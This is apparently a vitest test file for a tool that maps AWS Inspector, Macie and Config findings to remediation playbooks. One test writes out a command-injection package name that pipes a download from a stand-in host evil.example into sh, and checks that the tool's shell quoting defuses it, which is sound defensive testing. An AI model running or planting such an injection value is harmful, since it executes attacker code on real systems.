/**
 * Inspector, Macie and Config findings get specific answers: a playbook per kind of Inspector
 * finding and resource, per Macie data category and policy finding, and Config rules answered
 * by their Security Hub control's playbook or a rule-specific one.
 */
import { describe, expect, it } from 'vitest';
import { normalizeOne } from '../helpers/findings.js';
import { PlaybookAnalyst } from '../../src/analysis/playbooks/analyst.js';
import { configRuleControls, controlOfRule, managedRuleOf } from '../../src/findings/normalize/config-rules.js';
import type { Finding } from '../../src/findings/model.js';
import { configEvent, inspectorEvent, macieEvent } from '../../src/findings/samples.js';
import { INSPECTOR_KINDS, MACIE_TYPES, POPULAR_CONFIG_RULES } from '../../src/findings/source-samples.js';
import { runCli } from '../helpers/cli.js';
import { CATALOG_LISTS } from '../helpers/fixtures.js';
import { readFileSync } from 'node:fs';

type Json = Record<string, unknown>;
const analyst = new PlaybookAnalyst();

const one = normalizeOne;
const commands = (f: Finding): string[] => analyst.analyzeSync(f).steps.flatMap((s) => s.commands);

describe('Inspector', () => {
  it('answers each kind of finding and resource with its own playbook', () => {
    const ids = INSPECTOR_KINDS.map((kind) => analyst.analyzeSync(one(inspectorEvent({ kind }))).playbookId);
    expect(ids).toEqual(['inspector-package-ec2', 'inspector-package-ecr', 'inspector-package-lambda', 'inspector-network-reachability', 'inspector-code-vulnerability']);
  });

  it('names the fixed version and gives the package manager\'s upgrade command', () => {
    const ec2 = one(inspectorEvent({ kind: 'ec2' }));
    const a = analyst.analyzeSync(ec2);
    expect(a.summary).toContain('openssh-server 1:8.9p1-3ubuntu0.6, which has CVE-2024-6387. Version 1:8.9p1-3ubuntu0.10 fixes it.');
    expect(commands(ec2)).toContain('sudo apt-get install --only-upgrade -y openssh-server');
    expect(commands(one(inspectorEvent({ kind: 'lambda' })))).toContain('npm install express@4.19.2');
    expect(commands(one(inspectorEvent({ kind: 'ecr' })))).toContain('go get golang.org/x/net@v0.17.0');
    // Amazon Linux 2023 uses dnf; a language package keeps the package manager's own command.
    const al2023 = inspectorEvent({ kind: 'ec2' }) as { detail: { resources: { details: { awsEc2Instance: Json } }[] } };
    (al2023.detail.resources[0] as { details: { awsEc2Instance: Json } }).details.awsEc2Instance.platform = 'AMAZON_LINUX_2023';
    expect(commands(one(al2023))).toContain('sudo dnf upgrade -y openssh-server');
  });

  it('raises urgency for a public exploit and a network attack vector, and not without them', () => {
    const exploited = analyst.analyzeSync(one(inspectorEvent({ kind: 'ec2' })));
    expect(exploited.impact).toMatch(/A public exploit exists/);
    expect(exploited.impact).toMatch(/exploited over the network \(the CVSS vector says AV:N\)/);
    const quiet = inspectorEvent({ kind: 'ec2' }) as { detail: Json };
    quiet.detail.exploitAvailable = 'NO';
    quiet.detail.inspectorScoreDetails = { adjustedCvss: { scoringVector: 'CVSS:3.1/AV:L/AC:L/PR:L/UI:R/S:U/C:L/I:L/A:L' } };
    const calm = analyst.analyzeSync(one(quiet));
    expect(calm.impact).not.toMatch(/public exploit|over the network/);
  });

  it('a hostile package name stays one quoted word in the upgrade command', () => {
    const e = inspectorEvent({ kind: 'lambda' }) as { detail: { packageVulnerabilityDetails: { vulnerablePackages: Json[] } } };
    (e.detail.packageVulnerabilityDetails.vulnerablePackages[0] as Json).name = "x; curl evil.example | sh #'";
    const cmd = commands(one(e)).find((c) => c.startsWith('npm install')) ?? '';
    expect(cmd).toBe(`npm install 'x; curl evil.example | sh #'\\''@4.19.2'`);
  });

  it('network reachability proposes closing the path on the group Inspector found', () => {
    const a = analyst.analyzeSync(one(inspectorEvent({ kind: 'network' })));
    expect(a.actions.map((x) => x.action)).toEqual(['ec2:revoke-public-ingress']);
    expect(a.summary).toMatch(/TCP port\(s\) 22 can be reached from igw-/);
  });
});

describe('Macie', () => {
  it('every finding type gets a specific playbook that names the bucket', () => {
    for (const type of MACIE_TYPES) {
      const f = one(macieEvent({ type }));
      const a = analyst.analyzeSync(f);
      expect(a.playbookId, type).not.toBeNull();
      expect(a.summary, type).toContain(String(f.resources[0]?.ids.bucketName));
    }
  });

  it('sensitive-data findings name the object and what was found, by category', () => {
    const creds = analyst.analyzeSync(one(macieEvent({ type: 'SensitiveData:S3Object/Credentials' })));
    expect(creds.playbookId).toBe('macie-sensitive-credentials');
    expect(creds.summary).toContain('credentials (AWS_CREDENTIALS x1, OPENSSH_PRIVATE_KEY x1) in object exports/2026/payroll.csv');
    expect(creds.steps[1]?.title).toBe('Revoke the credentials first');
    const multiple = analyst.analyzeSync(one(macieEvent({ type: 'SensitiveData:S3Object/Multiple' })));
    expect(multiple.summary).toContain('personal information, financial information: USA_SOCIAL_SECURITY_NUMBER x40, BANK_ACCOUNT_NUMBER x40');
    const custom = analyst.analyzeSync(one(macieEvent({ type: 'SensitiveData:S3Object/CustomIdentifier' })));
    expect(custom.summary).toContain('EmployeeId x8');
  });
});

describe('Config', () => {
  it('reads the managed rule inside Security Hub\'s and conformance packs\' rule names', () => {
    expect(managedRuleOf('securityhub-restricted-ssh-f1q3p0')).toBe('restricted-ssh');
    expect(managedRuleOf('securityhub-s3-bucket-versioning-enabled-5a1b2c')).toBe('s3-bucket-versioning-enabled');
    expect(managedRuleOf('s3-bucket-versioning-enabled')).toBe('s3-bucket-versioning-enabled');
    expect(managedRuleOf('restricted-ssh-conformance-pack-abc12def')).toBe('restricted-ssh');
    expect(controlOfRule('securityhub-vpc-sg-open-only-to-authorized-ports-9z8y7x')).toBe('EC2.18');
  });

  it('a rule a control checks gets that control\'s playbook, actions on the resource included', () => {
    const f = one(configEvent({ rule: 'securityhub-vpc-sg-open-only-to-authorized-ports-9z8y7x' }));
    expect(f.control).toBe('EC2.18');
    const a = analyst.analyzeSync(f);
    expect(a.playbookId).toBe('control-ec2.18');
    expect(a.actions).toEqual([expect.objectContaining({ action: 'ec2:revoke-public-ingress', target: f.resources[0]?.id })]);
  });

  it('a rule no control checks gets its own playbook', () => {
    const a = analyst.analyzeSync(one(configEvent({ rule: 'required-tags', resourceType: 'AWS::EC2::Instance' })));
    expect(a.playbookId).toBe('config-required-tags');
    expect(a.steps.flatMap((s) => s.commands)).toContain('aws configservice describe-config-rules --region us-east-1 --config-rule-names required-tags --query "ConfigRules[].InputParameters"');
  });

  it('every control of the rule table is a control Security Hub has', () => {
    const known = new Set(readFileSync(`${CATALOG_LISTS}securityhub-controls.tsv`, 'utf8').split('\n').map((l) => l.split('\t')[0]));
    for (const [rule, control] of configRuleControls()) expect(known.has(control), `${rule} -> ${control}`).toBe(true);
  });

  it('the most used managed rules are at least 50, and each is answered specifically', () => {
    expect(POPULAR_CONFIG_RULES.length).toBeGreaterThanOrEqual(50);
    const generic = POPULAR_CONFIG_RULES.filter(([rule, resourceType]) => analyst.analyzeSync(one(configEvent({ rule, resourceType }))).playbookId === null).map(([r]) => r);
    expect(generic).toEqual([]);
  });
});

describe('samples of every source', () => {
  it('firebreak samples --all | firebreak triage: no generic answer for any Inspector, Macie or Config sample', () => {
    const samples = runCli(['samples', '--all']);
    expect(samples.status).toBe(0);
    const triage = runCli(['triage', '--format', 'json'], samples.stdout);
    expect(triage.status).toBe(0);
    const bySource = new Map<string, { specific: number; generic: string[] }>();
    for (const line of triage.stdout.trim().split('\n')) {
      const { finding, analysis } = JSON.parse(line) as { finding: { source: string; type: string }; analysis: { playbookId: string | null } };
      const entry = bySource.get(finding.source) ?? { specific: 0, generic: [] };
      if (analysis.playbookId === null) entry.generic.push(finding.type);
      else entry.specific += 1;
      bySource.set(finding.source, entry);
    }
    for (const source of ['inspector', 'macie', 'config']) {
      expect(bySource.get(source)?.generic, source).toEqual([]);
      expect(bySource.get(source)?.specific, source).toBeGreaterThan(4);
    }
  });
});
